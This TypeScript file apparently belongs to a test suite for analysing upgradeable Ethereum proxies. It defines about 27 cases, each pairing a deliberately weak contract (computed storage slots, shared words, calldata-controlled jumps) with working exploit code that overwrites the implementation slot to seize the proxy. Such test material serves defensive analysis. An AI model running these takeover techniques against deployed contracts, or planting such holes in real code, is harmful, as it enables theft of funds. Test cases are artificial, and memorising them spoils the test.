/** Writes whose slot is computed, words that hold more than one value, and jumps that calldata decides. */
import { concatHex, type Hex, hexToBigInt, keccak256, pad, size, stringToHex, toHex } from 'viem'
import { assemble, forwardTo, positionOf } from '../assemble.ts'
import type { Attack } from '../attack.ts'
import { type Case, WEAK } from '../case.ts'
import { type Built, type Chain, callData, LOGIC_SLOT, system } from '../chain.ts'
import { NEW_EVM } from './second-writers.ts'

type Draft = Omit<Case, 'cause' | 'truth' | 'by'> & Partial<Pick<Case, 'by'>>

const timelocked =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.uups(name, await chain.timelock()))
const plain =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.proxy(await chain.deploy(name), callData('setNumber(uint256)', [1])))
const settle =
  (signature: string, ...args: readonly unknown[]): Case['exploit'] =>
  ({ send, code }, { address }) =>
    send(address, signature, [...args, code])
const upgradeTo = ({ send, code }: Attack, { address }: Built): Promise<void> =>
  send(address, 'upgradeTo(address)', [code])

const POINTER = BigInt(LOGIC_SLOT)
const NAME = stringToHex('eip1967.proxy.implementation')
const WORD = 1n << 256n
const ZERO_WORD = toHex(0, { size: 32 })
const word = (value: Hex): Hex => pad(value, { size: 32 })

/** Hand-written logic behind a proxy, and the position of the write in its code. */
const written =
  (sourceOf: (logic: Hex) => string): Case['build'] =>
  async (chain) => {
    const source = sourceOf(await chain.deploy('Plain'))
    const logic = await chain.deployRuntime(assemble(source))
    return system(await chain.proxy(logic), { write: toHex(positionOf(source, 'write')) })
  }
const WRITE = `:write 0x20 CALLDATALOAD ${LOGIC_SLOT} SSTORE STOP`
/** Code that leads to the write: a jump to a computed destination, for input of 64 bytes. */
const jumping = (destination: string): Case['build'] =>
  written(
    (logic) => `CALLDATASIZE 0x40 EQ @odd JUMPI ${forwardTo(logic)}
      :odd ${destination} JUMP
      ${WRITE}`,
  )
const writePosition = ({ parts }: Built): number => Number(parts.write)

const drafts: readonly Draft[] = [
  {
    name: 'the slot follows from the hash of code that the caller names',
    build: plain('CodeHashSlot'),
    exploit: async ({ deployRuntime, send, code }, { address }) =>
      send(address, 'register(address,address)', [await deployRuntime(NAME), code]),
  },
  {
    name: 'modular exponentiation makes the slot',
    build: timelocked('PowerSlot'),
    exploit: settle('settle(uint256,uint256,address)', POINTER, 1n),
  },
  {
    name: 'the slot is built bit by bit in a loop',
    build: timelocked('LoopedSlot'),
    exploit: settle('settle(uint256,address)', POINTER),
  },
  {
    name: 'the caller says how much of a text is hashed to get the slot',
    build: plain('TextLengthSlot'),
    exploit: settle('settle(uint256,address)', BigInt(size(NAME))),
  },
  {
    name: 'the slot follows from the hash of an answer',
    build: timelocked('AnswerHashSlot'),
    exploit: async ({ deployRuntime, send, code }, { address }) => {
      const answer = assemble(`${NAME} 0x00 MSTORE 0x1c 0x04 RETURN`)
      await send(address, 'settle(address,address)', [await deployRuntime(answer), code])
    },
  },
  {
    name: 'the slot is next to a power of two',
    build: plain('ExponentSlot'),
    exploit: settle('settle(uint256,address)', 0n),
  },
  {
    name: 'the slot is a number with an extended sign',
    build: plain('SignExtendedSlot'),
    exploit: settle('settle(uint256,uint256,address)', 31n, POINTER ^ 0x1111n),
  },
  {
    name: 'the slot is put together from single bytes',
    build: timelocked('ByteByByteSlot'),
    exploit: settle('settle(bytes,address)', LOGIC_SLOT),
  },
  { name: 'the slot is moved by one byte in memory', build: plain('MovedSlot'), exploit: settle('settle(address)') },
  {
    name: 'the contract asks itself for the slot',
    build: timelocked('SelfAnsweredSlot'),
    exploit: settle('settle(uint256,address)', POINTER ^ 0x5ca1ab1en),
  },
  {
    name: 'the slot is the sender plus a number',
    build: plain('SenderOffsetSlot'),
    exploit: ({ send, account, code }, { address }) =>
      send(address, 'settle(uint256,address)', [POINTER - BigInt(account.address), code]),
  },
  {
    name: 'attached ether is part of the slot',
    build: timelocked('ValueSlot'),
    exploit: ({ send, code }, { address }) => send(address, 'settle(address)', [code], { value: 3n }),
  },
  {
    name: 'the number of the block is part of the slot',
    build: plain('BlockSlot'),
    exploit: async ({ chain, mine, send, code }, { address }) => {
      const number = Number(await chain.node.rpc<Hex>('eth_blockNumber'))
      await mine((4 - (number % 8) + 8) % 8 || 8)
      await send(address, 'settle(address)', [code])
    },
  },
  {
    name: 'the length of calldata is part of the slot',
    build: timelocked('InputLengthSlot'),
    exploit: ({ sendRaw, code }, { address }) =>
      sendRaw(address, concatHex([callData('settle(address)', [code]), toHex(0, { size: 64 })])),
  },
  {
    name: 'the index into an element of a mapping is not checked',
    build: plain('OffsetElement'),
    exploit: ({ send, account, code }, { address }) => {
      const element = hexToBigInt(keccak256(concatHex([word(account.address), toHex(1, { size: 32 })])))
      return send(address, 'score(uint256,uint256)', [(POINTER - element + WORD) % WORD, code])
    },
  },
  {
    name: 'the caller says which bits of the word with the owner are set',
    build: timelocked('ShiftedField'),
    exploit: async (attack, built) => {
      await attack.send(built.address, 'setField(uint256,uint256,uint256)', [16n, 160n, attack.account.address])
      await upgradeTo(attack, built)
    },
  },
  {
    name: 'a small number with an unchecked index shares its word with the owner',
    build: timelocked('PackedShares'),
    exploit: async (attack, built) => {
      for (let n = 0n; n < 10n; n += 1n) {
        const share = (BigInt(attack.account.address) >> (16n * n)) & 0xffffn
        await attack.send(built.address, 'setShare(uint256,uint256)', [n + 1n, share])
      }
      await upgradeTo(attack, built)
    },
  },
  {
    name: 'a counter is added to the word with the owner',
    build: timelocked('AddedWord'),
    exploit: async (attack, built) => {
      const now = BigInt(await attack.chain.storage(built.address, ZERO_WORD))
      const wanted = (BigInt(attack.account.address) << 16n) | 1n
      await attack.send(built.address, 'count(uint256)', [(wanted - now + WORD) % WORD])
      await upgradeTo(attack, built)
    },
  },
  {
    name: 'the cleaning of a field forgets the initialization next to it',
    build: timelocked('ClearedNeighbor'),
    exploit: async (attack, built) => {
      await attack.send(built.address, 'clearFlags(uint256)', [0n])
      await attack.send(built.address, 'initialize(address)', [attack.account.address])
      await upgradeTo(attack, built)
    },
  },
  {
    name: 'words are copied to a place that the caller gives',
    build: plain('CopiedWords'),
    exploit: ({ send, code }, { address }) => send(address, 'fill(uint256,uint256[])', [POINTER, [code]]),
  },
  {
    name: 'a storage reference is a number of the caller',
    build: timelocked('ChosenReference'),
    exploit: settle('write(uint256,uint256)', POINTER),
  },
  {
    name: 'the hash of calldata is the jump destination',
    build: jumping('0x40 0x00 0x00 CALLDATACOPY 0x20 0x00 KECCAK256 0xff AND'),
    exploit: async ({ sendRaw, code }, built) => {
      const wanted = BigInt(writePosition(built))
      let first = 0n
      while ((hexToBigInt(keccak256(toHex(first, { size: 32 }))) & 0xffn) !== wanted) first += 1n
      await sendRaw(built.address, concatHex([toHex(first, { size: 32 }), word(code)]))
    },
  },
  {
    name: 'the size of the code of the caller is the jump destination',
    build: written(
      (logic) => `CALLDATASIZE 0x40 EQ @odd JUMPI ${forwardTo(logic)}
        :odd CALLER data:0x3b JUMP
        ${WRITE}`,
    ),
    exploit: async ({ deployRuntime, sendRaw, code }, built) => {
      // A contract of exactly that size, which passes its input on.
      const source = `CALLDATASIZE 0x00 0x00 CALLDATACOPY 0x00 0x00 CALLDATASIZE 0x00 0x00 ${built.address} GAS CALL STOP`
      const runtime = assemble(source)
      const padded = concatHex([runtime, toHex(0, { size: writePosition(built) - size(runtime) })])
      await sendRaw(await deployRuntime(padded), concatHex([ZERO_WORD, word(code)]))
    },
  },
  {
    name: 'attached ether is the jump destination',
    build: jumping('CALLVALUE'),
    exploit: ({ sendRaw, code }, built) =>
      sendRaw(built.address, concatHex([ZERO_WORD, word(code)]), { value: BigInt(writePosition(built)) }),
  },
  {
    name: 'what a call returns is as long as the jump destination',
    build: jumping('0x00 0x00 0x00 0x00 0x00 0x00 CALLDATALOAD GAS CALL POP RETURNDATASIZE'),
    exploit: async ({ deployRuntime, sendRaw, code }, built) => {
      const answering = await deployRuntime(assemble(`${toHex(writePosition(built), { size: 2 })} 0x00 RETURN`))
      await sendRaw(built.address, concatHex([word(answering), word(code)]))
    },
  },
  {
    name: 'a number that the caller stored under its address is the jump destination',
    build: written(
      (logic) => `CALLDATASIZE 0x21 EQ @note JUMPI CALLDATASIZE 0x40 EQ @odd JUMPI ${forwardTo(logic)}
        :note 0x00 CALLDATALOAD CALLER SSTORE STOP
        :odd CALLER SLOAD JUMP
        ${WRITE}`,
    ),
    exploit: async ({ sendRaw, code }, built) => {
      await sendRaw(built.address, concatHex([toHex(writePosition(built), { size: 32 }), '0x00']))
      await sendRaw(built.address, concatHex([ZERO_WORD, word(code)]))
    },
  },
  {
    name: 'the lowest bit of the gas left decides where code goes on',
    build: written(
      (logic) => `CALLDATASIZE 0x40 EQ @odd JUMPI :usual ${forwardTo(logic)}
        :odd @usual @write SUB 0x01 GAS AND MUL @usual ADD JUMP
        ${WRITE}`,
    ),
    exploit: async ({ sendRaw, code }, { address }) => {
      const input = concatHex([ZERO_WORD, word(code)])
      for (const gas of [500_000n, 500_001n]) await sendRaw(address, input, { gas }).catch(() => undefined)
    },
  },
]

export const computedPlaces: readonly Case[] = drafts.map((draft) => ({
  by: 'anyone',
  settings: NEW_EVM,
  ...draft,
  cause: 'second writer',
  truth: WEAK,
}))
